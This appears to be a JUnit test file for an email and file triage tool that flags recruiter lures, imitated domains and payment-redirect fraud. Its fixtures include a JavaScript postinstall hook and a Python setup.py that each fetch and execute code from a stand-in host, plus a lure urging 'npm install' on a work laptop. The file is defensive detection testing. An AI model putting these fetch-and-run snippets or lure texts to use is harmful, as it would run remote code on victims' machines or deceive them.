package dev.countersign.lure.triage;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.lure.content.Content;
import dev.countersign.lure.context.Company;
import dev.countersign.lure.context.Contact;
import dev.countersign.model.verdict.Finding;
import dev.countersign.model.verdict.Outcome;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

/** The whole way from bytes to an answer, in this process. */
class TriageTest {
  private static final Path EXAMPLES = Path.of("..", "examples");
  private static final Triage TRIAGE = new Triage(Company.UNKNOWN);

  private static final String CODE =
      """
      const axios = require('axios');
      axios.get('https://theme.example/a').then((answer) => new Function(answer.data)());
      """;

  private static Answer answer(String name, String text) {
    return TRIAGE.answer(Content.of(name, text.getBytes(StandardCharsets.UTF_8)));
  }

  private static Answer example(String name) throws IOException {
    return TRIAGE.answer(Content.of(name, Files.readAllBytes(EXAMPLES.resolve(name))));
  }

  private static byte[] zip(String... namesAndTexts) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (int i = 0; i < namesAndTexts.length; i += 2) {
        zip.putNextEntry(new ZipEntry(namesAndTexts[i]));
        zip.write(namesAndTexts[i + 1].getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
      }
    }
    return bytes.toByteArray();
  }

  private static List<String> codes(Answer answer) {
    return answer.verdict().findings().stream().map(f -> f.code().code()).toList();
  }

  @Test
  void aLureWithAProjectIsDeniedForWhatItSaysAndForWhatItWouldRun() throws IOException {
    Answer answer = example("recruiter.eml");
    assertThat(answer.verdict().outcome()).isEqualTo(Outcome.DENY);
    assertThat(answer.why()).hasSize(3);
    assertThat(codes(answer)).contains("lure-to-run", "code-from-network");
    assertThat(answer.sender()).contains("careers@northgate-talent.example");
    assertThat(answer.todo()).anySatisfy(one -> assertThat(one).contains("Do not run"));
    assertThat(answer.indicators())
        .contains(
            new Indicator(Indicator.Kind.ADDRESS, "careers@northgate-talent.example"),
            new Indicator(Indicator.Kind.ADDRESS, "elena.marsh.hiring@freemail.example"));
    assertThat(answer.likeness()).anyMatch(mark -> mark.startsWith("file:"));
  }

  @Test
  void anHonestRecruiterIsNotAccused() throws IOException {
    Answer answer = example("honest-recruiter.eml");
    assertThat(answer.verdict().outcome()).isEqualTo(Outcome.ALLOW);
    assertThat(answer.indicators()).isEmpty();
  }

  @Test
  void whoseDomainImitatesAServiceIsHeldWithoutALink() {
    Answer answer =
        answer("a.eml", "From: Mia <mia@linkedin-careers.net>\nSubject: Hello\n\nShall we meet?\n");
    assertThat(answer.verdict().outcome()).isEqualTo(Outcome.HOLD);
    assertThat(codes(answer)).contains("imitated-domain");
  }

  @Test
  void aStrangerIsNotCalledHarmless() {
    Answer stranger =
        answer(
            "a.eml",
            """
            From: Mia <mia@atelier-north.example>
            Subject: Hello

            Could we go on over Telegram? My handle is @mia.
            """);
    assertThat(stranger.verdict().outcome()).isEqualTo(Outcome.ALLOW);
    assertThat(Wording.headline(stranger)).startsWith("No danger was found in it, but who wrote");
    Answer known =
        answer("a.eml", "From: Mia <mia@atelier-north.example>\nSubject: Hello\n\nLunch?\n");
    assertThat(Wording.headline(known)).startsWith("Nothing was found that speaks against it.");
  }

  @Test
  void aFileThatIsNotRecognisedIsNotCalledHarmless() {
    Answer answer =
        TRIAGE.answer(Content.of("scan.dat", HexFormat.of().parseHex("019f030000070002")));
    assertThat(answer.unread()).singleElement().asString().contains("scan.dat");
    assertThat(Wording.headline(answer)).contains("not all could be read");
    assertThat(answer("notes.txt", "Milk, bread and eggs.\n").unread()).isEmpty();
  }

  @Test
  void theFileAndLineOfWhatWouldRunAreNamed() throws IOException {
    Answer answer =
        TRIAGE.answer(
            Content.of(
                "test.zip",
                zip(
                    "app/package.json",
                    "{\"name\":\"app\",\"scripts\":{\"postinstall\":\"node a.js\"}}",
                    "app/a.js",
                    CODE)));
    assertThat(answer.verdict().outcome()).isEqualTo(Outcome.DENY);
    Finding found =
        answer.verdict().findings().stream()
            .filter(f -> f.code().code().equals("code-from-network"))
            .findFirst()
            .orElseThrow();
    assertThat(found.evidence().get("where")).contains("a.js:2");
  }

  @Test
  void aFileOfCodeAloneIsReadAsCode() {
    assertThat(answer("a.js", CODE).verdict().outcome()).isEqualTo(Outcome.DENY);
  }

  @Test
  void pastedTextIsAMessage() {
    Answer answer =
        answer(
            "",
            "Hi, we hire blockchain engineers, 400k. Please clone https://gitlab.example/t/test,"
                + " run npm install && npm start on your work laptop before our call and tell me"
                + " what is broken.");
    assertThat(answer.kind()).isEqualTo("pasted text");
    assertThat(answer.verdict().outcome()).isEqualTo(Outcome.DENY);
  }

  @Test
  void ofAMailForwardedByAColleagueTheForwardedOneIsJudged() throws IOException {
    String inner = Files.readString(EXAMPLES.resolve("recruiter.eml"));
    String outer =
        """
        From: Dana <dana@company.example>
        To: security@company.example
        Subject: Fwd: is this real?
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="outer"

        --outer
        Content-Type: text/plain

        Is this real?
        --outer
        Content-Type: message/rfc822

        """
            + inner
            + "\n--outer--\n";
    Company company =
        new Company(
            "Company",
            Set.of("company.example"),
            Set.of(),
            List.of(),
            Set.of(),
            Set.of(),
            Set.of());
    Answer answer =
        new Triage(company).answer(Content.of("r.eml", outer.getBytes(StandardCharsets.UTF_8)));
    assertThat(answer.title()).startsWith("Principal blockchain engineer");
    assertThat(answer.verdict().outcome()).isEqualTo(Outcome.DENY);
    assertThat(answer.parts().stream().filter(part -> part.kind().equals("a mail"))).hasSize(1);
  }

  @Test
  void whoIsImitatedIsToBeAskedOverTheKnownChannel() {
    Contact contact =
        new Contact(
            "Northgate Custody",
            Contact.Kind.COUNTERPARTY,
            Set.of("desk@northgate.example"),
            Set.of("northgate.example"),
            List.of("phone 44, from the contract"));
    Company company =
        new Company(
            "Company",
            Set.of("company.example"),
            Set.of(),
            List.of(contact),
            Set.of(),
            Set.of(),
            Set.of());
    String mail =
        """
        From: Northgate Custody <desk@northgate-custody.example>
        To: dana@company.example
        Subject: New settlement address
        Date: Mon, 2 Mar 2026 09:41:05 +0000

        Please send today's settlement to our new address, the old account is closed.
        It is urgent, and do not call, our phones are being moved.
        """;
    Answer answer =
        new Triage(company).answer(Content.of("m.eml", mail.getBytes(StandardCharsets.UTF_8)));
    assertThat(answer.verdict().outcome()).isEqualTo(Outcome.DENY);
    assertThat(answer.todo()).last().asString().contains("phone 44, from the contract");
  }

  @Test
  void anEmptyFileIsAnswered() {
    assertThat(answer("nothing.bin", "").why()).isNotEmpty();
  }

  @Test
  void markupIsWordsAndNothingElse() {
    String mail =
        "From: a@b.example\nSubject: <script>alert(1)</script>\nContent-Type: text/html\n\n"
            + "<p onclick=\"x()\">Hello</p><script>alert(2)</script>";
    Answer answer = answer("m.eml", mail);
    assertThat(answer.title()).isEqualTo("<script>alert(1)</script>");
    assertThat(new AnswerText(false).of(answer)).doesNotContain("\u001b");
  }

  @Test
  void manyNestedPartsEndInAnAnswer() {
    StringBuilder mail = new StringBuilder("From: a@b.example\n");
    for (int i = 0; i < 10_000; i++) {
      mail.append("Content-Type: multipart/mixed; boundary=b").append(i).append("\n\n--b");
      mail.append(i).append('\n');
    }
    Answer answer = answer("deep.eml", mail.toString());
    assertThat(answer.verdict().outcome()).isNotEqualTo(Outcome.ALLOW);
    assertThat(answer.unread()).isNotEmpty();
  }

  @Test
  void anAttachmentThatIsAnArchiveOfArchivesIsReadToItsEnd() throws IOException {
    byte[] inner =
        zip(
            "app/setup.py",
            """
            import urllib.request
            exec(urllib.request.urlopen('https://theme.example/a').read())
            """);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry("inner.zip"));
      zip.write(inner);
      zip.closeEntry();
    }
    String mail =
        "From: a@b.example\nSubject: files\nContent-Type: application/zip; name=o.zip\n"
            + "Content-Disposition: attachment; filename=o.zip\n"
            + "Content-Transfer-Encoding: base64\n\n"
            + Base64.getMimeEncoder().encodeToString(bytes.toByteArray());
    Answer answer = answer("m.eml", mail);
    assertThat(codes(answer)).contains("code-from-network");
  }
}
